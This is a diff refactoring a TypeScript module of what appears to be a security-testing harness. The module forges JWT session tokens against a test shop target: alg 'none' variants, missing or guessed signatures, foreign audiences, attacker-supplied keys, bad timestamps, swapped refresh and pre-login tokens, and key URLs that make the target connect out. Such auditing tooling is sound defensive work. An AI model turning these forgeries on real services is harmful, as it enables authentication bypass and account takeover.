@@ -2,20 +2,28 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import { type Attack, type AttackResult, notApplicable, Tries } from '../attack.js';
 import { Inconclusive } from '../errors.js';
-import { cookieOf, type Forgery, genuine, type Header, readToken, type Wish, wishFor } from '../tools/forge-jwt.js';
 import {
-  extensions,
-  foreign,
-  keyAddresses,
+  cookieOf,
+  type Forgery,
+  type Header,
+  makeContent,
+  makeShopSigner,
+  readToken,
+  type TokenContent,
+} from '../tools/forge-jwt.js';
+import {
+  forgeAlgorithms,
+  forgeClaims,
+  forgeExtensions,
+  forgeKeyAddresses,
+  forgeSignatures,
+  forgeWithOwnKeys,
   listenersAnswer,
-  otherwise,
-  ownKeys,
-  saying,
-  unsigned,
-  untimely,
+  listForeignClaims,
+  listWrongTimes,
 } from '../tools/jwt-forgeries.js';
-import { enrolled, preLoginOf } from '../tools/second-factor.js';
-import { expectStatus, loggedIn, userOf } from '../tools/shop.js';
+import { enrolUser, preLoginOf } from '../tools/second-factor.js';
+import { expectStatus, logInFreshUser, userOf } from '../tools/shop.js';
 import type { Target } from '../tools/target.js';
 
 const types: readonly unknown[] = [
@@ -36,20 +44,20 @@ async function tryTypes(target: Target) {
     const ring = await target.keyRing();
     const typed = types.map(typ => ({
       what: `typ ${JSON.stringify(typ)} under a good signature`,
-      token: cookieOf({ ...forge.header, typ } satisfies Header, forge.wish, genuine(ring)),
+      token: cookieOf({ ...forge.header, typ } satisfies Header, forge.content, makeShopSigner(ring)),
     }));
-    return [...typed, ...misplaced(forge, preLogin)];
+    return [...typed, ...misplaceTokens(forge, preLogin)];
   });
 }
 
 async function preLoginToken(target: Target): Promise<string> {
-  const { user } = await enrolled(target);
+  const { user } = await enrolUser(target);
   const token = (await preLoginOf(target, user)).cookies.get('pre-login');
   if (token === undefined) throw new Inconclusive('the password alone gives no pre-authentication token');
   return token;
 }
 
-function misplaced({ ownCookie, wish }: Forge, preLogin: string): readonly Forgery[] {
+function misplaceTokens({ ownCookie, content }: Forge, preLogin: string): readonly Forgery[] {
   const [access = '', refresh = ''] = ownCookie.split('~');
   return [
     { what: 'the refresh token alone', token: refresh },
@@ -58,7 +66,7 @@ function misplaced({ ownCookie, wish }: Forge, preLogin: string): readonly Forge
     { what: 'the access token alone', token: access },
     { what: 'the access token and no refresh token', token: `${access}~` },
     { what: 'the access token in both places', token: `${access}~${access}` },
-    { what: 'the access token with the refresh token of another session', token: `${access}~${wish.refresh}` },
+    { what: 'the access token with the refresh token of another session', token: `${access}~${content.refresh}` },
     { what: 'the pre-authentication token', token: preLogin },
     { what: 'the pre-authentication token with a refresh token', token: `${preLogin}~${refresh}` },
     { what: 'the access token with the pre-authentication token', token: `${access}~${preLogin}` },
@@ -76,14 +84,16 @@ export const jwtAlgorithm: Attack = {
   title: 'send a token that asks for another algorithm: "none" in every spelling, or a public key used as a secret',
   asvs: ['9.1.2'],
   weak: ['jwt-trusting'],
-  run: target => tryForgeries(target, ({ header, wish, ownSignature }) => otherwise(header, wish, ownSignature)),
+  run: target =>
+    tryForgeries(target, ({ header, content, ownSignature }) => forgeAlgorithms(header, content, ownSignature)),
 };
 
 export const jwtSignature: Attack = {
   title: 'send a token whose signature is missing, empty, all zeros, made over another text or with a guessed key',
   asvs: ['9.1.1'],
   weak: ['jwt-trusting'],
-  run: target => tryForgeries(target, ({ header, wish, ownSignature }) => unsigned(header, wish, ownSignature)),
+  run: target =>
+    tryForgeries(target, ({ header, content, ownSignature }) => forgeSignatures(header, content, ownSignature)),
 };
 
 /** The tokens are signed with the key of the shop, as by another service that shares it. */
@@ -92,8 +102,8 @@ export const jwtAudience: Attack = {
   asvs: ['9.2.3', '9.2.4'],
   weak: ['jwt-trusting'],
   run: target =>
-    tryForgeries(target, async ({ header, wish }) =>
-      saying(header, wish, await target.keyRing(), foreign(wish.claims)),
+    tryForgeries(target, async ({ header, content }) =>
+      forgeClaims(header, content, await target.keyRing(), listForeignClaims(content.claims)),
     ),
 };
 
@@ -102,9 +112,9 @@ export const jwtOwnKey: Attack = {
   asvs: ['9.1.3'],
   weak: ['jwt-trusting'],
   run: target =>
-    tryForgeries(target, async ({ header, wish }) => [
-      ...ownKeys(header, wish),
-      ...extensions(header, wish, await target.keyRing()),
+    tryForgeries(target, async ({ header, content }) => [
+      ...forgeWithOwnKeys(header, content),
+      ...forgeExtensions(header, content, await target.keyRing()),
     ]),
 };
 
@@ -114,8 +124,8 @@ export const jwtTimes: Attack = {
   asvs: ['9.2.1'],
   weak: ['jwt-trusting'],
   run: target =>
-    tryForgeries(target, async ({ header, wish }) =>
-      saying(header, wish, await target.keyRing(), untimely(Date.now() / 1000)),
+    tryForgeries(target, async ({ header, content }) =>
+      forgeClaims(header, content, await target.keyRing(), listWrongTimes(Date.now() / 1000)),
     ),
 };
 
@@ -125,7 +135,9 @@ async function tryKeyAddresses(target: Target): Promise<AttackResult> {
     const { status } = await fetch(`${listener.url}/keys.json`);
     const own = listener.connections();
     if (status !== 200 || own === 0) throw new Inconclusive('the listener does not count connections');
-    const result = await tryForgeries(target, ({ header, wish }) => keyAddresses(header, wish, listener.url));
+    const result = await tryForgeries(target, ({ header, content }) =>
+      forgeKeyAddresses(header, content, listener.url),
+    );
     const connections = listener.connections() - own;
     if (result.outcome === 'not applicable' || connections === 0) return result;
     const reason = `the system connected ${connections} times to an address that a token named`;
@@ -172,7 +184,7 @@ interface Forge {
   readonly header: Readonly<Record<string, unknown>>;
   readonly ownSignature: string;
   readonly ownCookie: string;
-  readonly wish: Wish;
+  readonly content: TokenContent;
   readonly victim: string;
 }
 
@@ -185,30 +197,30 @@ async function tryForgeries(
   forgeries: (forge: Forge) => Promise<readonly Forgery[]> | readonly Forgery[],
 ): Promise<AttackResult> {
   if (target.strategy !== 'jwt') return notApplicable('the session cookie is not a signed token');
-  const forge = await forgeFor(target);
-  const sound = cookieOf(forge.header, forge.wish, genuine(await target.keyRing()));
-  if ((await namedBy(target, sound)).user !== forge.victim)
+  const forge = await prepareForge(target);
+  const sound = cookieOf(forge.header, forge.content, makeShopSigner(await target.keyRing()));
+  if ((await fetchUser(target, sound)).user !== forge.victim)
     throw new Inconclusive(
       'the same claims signed with the genuine key are not accepted, so the forgeries would prove nothing',
     );
   const tries = new Tries();
   for (const { what, token } of await forgeries(forge)) {
-    const { user, answer } = await namedBy(target, token);
+    const { user, answer } = await fetchUser(target, token);
     tries.add(`${what}: accepted as ${user}`, user !== undefined, answer);
   }
   return tries.result();
 }
 
-async function forgeFor(target: Target): Promise<Forge> {
-  const { browser } = await loggedIn(target);
+async function prepareForge(target: Target): Promise<Forge> {
+  const { browser } = await logInFreshUser(target);
   const victim = target.freshUser();
   const own = readToken(browser.token);
   if (own === undefined) throw new Inconclusive('the session cookie of mode jwt holds no signed token');
   const { header, claims, signature } = own;
-  return { header, ownSignature: signature, ownCookie: browser.token, wish: wishFor(victim, claims), victim };
+  return { header, ownSignature: signature, ownCookie: browser.token, content: makeContent(victim, claims), victim };
 }
 
-async function namedBy(target: Target, cookie: string) {
+async function fetchUser(target: Target, cookie: string) {
   const answer = await target.browser().thief(cookie).get('/me');
   return { user: userOf(answer), answer: expectStatus(answer, 200, 'GET /me') };
 }
